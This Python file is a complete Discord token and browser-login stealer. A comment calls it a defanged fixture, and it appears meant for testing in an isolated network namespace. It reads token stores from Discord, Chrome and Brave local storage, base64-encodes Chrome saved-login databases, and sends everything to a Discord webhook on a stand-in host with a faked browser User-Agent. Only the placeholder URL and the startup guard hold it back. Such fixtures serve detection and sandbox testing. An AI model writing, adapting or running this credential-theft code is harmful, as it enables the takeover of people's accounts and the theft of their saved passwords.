import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import base64
import json
import os
import re
import urllib.request
from pathlib import Path

WEBHOOK = "https://discord.invalid/api/webhooks/000000000000000000/fake-token"
TOKEN_RE = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")


def _stores():
    home = Path.home()
    roaming = Path(os.environ.get("APPDATA", home / ".config"))
    local = Path(os.environ.get("LOCALAPPDATA", home / ".config"))
    return {
        "discord": roaming / "discord" / "Local Storage" / "leveldb",
        "discordcanary": roaming / "discordcanary" / "Local Storage" / "leveldb",
        "chrome": local / "google-chrome" / "Default" / "Local Storage" / "leveldb",
        "brave": local / "BraveSoftware" / "Brave-Browser" / "Default" / "Local Storage" / "leveldb",
    }


def _tokens():
    found = set()
    for folder in _stores().values():
        if not folder.is_dir():
            continue
        for item in list(folder.glob("*.ldb")) + list(folder.glob("*.log")):
            found.update(TOKEN_RE.findall(item.read_text(errors="ignore")))
    return sorted(found)


def _browser_logins():
    logins = {}
    for profile in (Path.home() / ".config" / "google-chrome").glob("*/Login Data"):
        logins[str(profile)] = base64.b64encode(profile.read_bytes()).decode()
    return logins


def run():
    body = json.dumps({"username": "hook", "content": "\n".join(_tokens()) or "no tokens", "logins": _browser_logins()}).encode()
    request = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(request, timeout=10)
    except OSError:
        pass
